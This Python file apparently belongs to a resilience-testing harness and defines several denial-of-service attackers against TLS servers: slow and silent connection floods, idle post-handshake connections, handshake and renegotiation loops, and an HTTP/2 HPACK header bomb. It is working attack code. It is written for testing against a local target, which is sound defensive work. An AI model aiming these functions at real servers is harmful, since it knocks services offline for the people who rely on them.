# SPDX-License-Identifier: Apache-2.0
"""Attacks on TLS itself; each function is one attacker."""

import ssl
import subprocess
import threading
import time

from harness import attack as http2
from harness.attack import attack, frame, hold_many


def _context():
    context = ssl.create_default_context()
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE
    return context


@attack(threads=1, tls=True, crowd=True, counted=("slow",))
def tls_silent(target):
    """1,500 connections that never say hello."""
    hold_many(target, 1500, tls=True)


@attack(threads=1, tls=True, crowd=True, counted=("slow",))
def tls_half_hello(target):
    """1,500 connections that say a byte of their hello five times a second."""
    hold_many(target, 1500, b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03", b"\0", tls=True)


@attack(threads=1, tls=True, crowd=True)
def tls_idle(target):
    """1,500 connections that are silent after their handshake."""
    context, socks = _context(), []
    try:
        while not target.over() and len(socks) < 1500:
            socks.append(context.wrap_socket(target.connect(tls=True)))
        time.sleep(target.left())
    finally:
        for sock in socks:
            sock.close()


@attack(tls=True)
def tls_handshakes(target):
    """Handshakes without end."""
    with target.connect(tls=True) as sock:
        _context().wrap_socket(sock).close()


@attack(tls=True)
def tls_renegotiation(target):
    """Renegotiation of TLS 1.2, as often as it is let."""
    client = subprocess.Popen(
        ["openssl", "s_client", "-tls1_2", "-connect", f"127.0.0.1:{target.tls_port}"], stdin=subprocess.PIPE,
        stdout=subprocess.PIPE, stderr=subprocess.STDOUT,
    )
    target.connections += 1
    end = threading.Timer(target.left() + 1, client.kill)
    end.start()
    try:
        while (line := client.stdout.readline()) and b"Verify return code" not in line:
            pass
        for _ in range(100):
            client.stdin.write(b"R\n")
            client.stdin.flush()
            while (line := client.stdout.readline()) and b"verify" not in line and b"error" not in line:
                pass
            target.answers["renegotiated" if b"verify" in line else "refused"] += 1
            if b"verify" not in line:
                return
    finally:
        end.cancel()
        client.kill()
        client.communicate()


@attack(tls=True, counted=("headers",))
def tls_hpack_bomb(target):
    """100,000 header fields of one byte each in the first bytes of HTTP/2 over TLS."""
    context = _context()
    context.set_alpn_protocols(["h2"])
    block = http2.head(target.path) + b"\xa0" * 16_000
    with context.wrap_socket(target.connect(tls=True)) as sock:
        sock.settimeout(target.left())
        sock.sendall(http2.PREFACE + frame(http2.SETTINGS, 0, 0) + b"".join(
            frame(http2.HEADERS, http2.END_HEADERS, stream, block[:16384]) for stream in range(1, 181, 2)))
        while sock.recv(65536):
            pass
        target.cut += 1
